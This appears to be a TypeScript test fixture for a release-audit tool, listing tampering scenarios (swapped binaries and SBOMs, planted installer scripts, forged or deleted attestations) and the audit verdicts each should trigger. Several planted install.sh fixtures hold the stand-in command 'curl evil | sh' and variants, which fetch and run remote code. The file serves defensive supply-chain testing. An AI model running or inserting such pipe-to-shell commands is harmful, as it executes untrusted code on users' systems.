/** Files exchanged, smuggled in, or without their evidence. */
import {
  asset,
  forget,
  FOREIGN,
  FOREIGN_WORKFLOW,
  only,
  replace,
  type Damage,
} from './damage-tools.ts'

const KINDS: readonly Damage[] = [
  {
    what: 'a binary exchanged, its digest with it',
    plant: release => replace(asset(release, release.binary), 'malware'),
    expected: ({ binary }) => only(binary, 'digest-drift', 'AUDIT_DIGEST_DRIFT'),
  },
  {
    what: 'a binary exchanged behind its digest',
    plant: release => {
      const target = asset(release, release.binary)
      replace(target, 'x'.repeat(target.size), { keepDigest: true })
    },
    expected: ({ binary }) => only(binary, 'digest-drift', 'AUDIT_DIGEST_DRIFT'),
    needsDownload: true,
  },
  {
    what: 'an SBOM exchanged',
    plant: release =>
      replace(asset(release, `${release.binary}.cdx.json`), '{"bomFormat":"CycloneDX"}'),
    expected: ({ binary }) => only(`${binary}.cdx.json`, 'digest-drift', 'AUDIT_DIGEST_DRIFT'),
  },
  {
    what: 'a stowaway without any attestation',
    plant: (release, { sandbox }) => {
      const stowaway = sandbox.github.plantStarterAsset(release.release, 'install.sh')
      stowaway.state = 'uploaded'
      replace(stowaway, 'curl evil | sh')
    },
    expected: () => only('install.sh', 'unattested', 'AUDIT_UNATTESTED'),
  },
  {
    what: 'a stowaway that its uploader attested in a repository of his own',
    plant: (release, { sandbox, history }) => {
      const stowaway = sandbox.github.plantStarterAsset(release.release, 'install.sh')
      stowaway.state = 'uploaded'
      replace(stowaway, 'curl evil | sh -x')
      const job = {
        repository: FOREIGN,
        jobWorkflowRef: `${FOREIGN_WORKFLOW}@refs/tags/${release.tag}`,
      }
      for (const bundle of history.bundlesOf(stowaway, release.tag, release.commit, { job })) {
        history.store(bundle)
      }
    },
    expected: () => only('install.sh', 'wrong-signer', 'REPOSITORY_MISMATCH'),
  },
  {
    what: 'evidence for a stowaway that nobody signed',
    plant: (release, { sandbox, history }) => {
      const stowaway = sandbox.github.plantStarterAsset(release.release, 'install.sh')
      stowaway.state = 'uploaded'
      replace(stowaway, 'curl evil | sh -e')
      const forged = history.bundlesOf(stowaway, release.tag, release.commit, {
        defect: 'foreign-key',
      })
      const evidence = sandbox.github.plantStarterAsset(release.release, 'more.intoto.jsonl')
      evidence.state = 'uploaded'
      replace(evidence, forged.map(bundle => `${JSON.stringify(bundle)}\n`).join(''))
    },
    expected: () => [
      { asset: 'install.sh', verdict: 'wrong-signer', code: 'SIGNATURE_INVALID' },
      { asset: 'more.intoto.jsonl', verdict: 'unattested', code: 'AUDIT_UNATTESTED' },
    ],
  },
  {
    what: 'the attestations of a binary deleted, the evidence file still there',
    plant: (release, world) => forget(release, world, release.binary),
    expected: ({ binary }) => only(binary, 'evidence-only', 'AUDIT_EVIDENCE_ONLY'),
  },
  {
    what: 'the provenance of a binary deleted, its SBOM attestation left',
    options: { evidence: false },
    plant: (release, world) => forget(release, world, release.binary, index => index === 0),
    expected: ({ binary }) => only(binary, 'attestation-missing', 'AUDIT_ATTESTATION_LOST'),
  },
  {
    what: 'the attestation of the evidence file deleted',
    plant: (release, world) => forget(release, world, release.evidence),
    expected: ({ evidence }) => only(evidence, 'unattested', 'AUDIT_UNATTESTED'),
  },
]

export function fileDamages(): readonly Damage[] {
  return KINDS
}
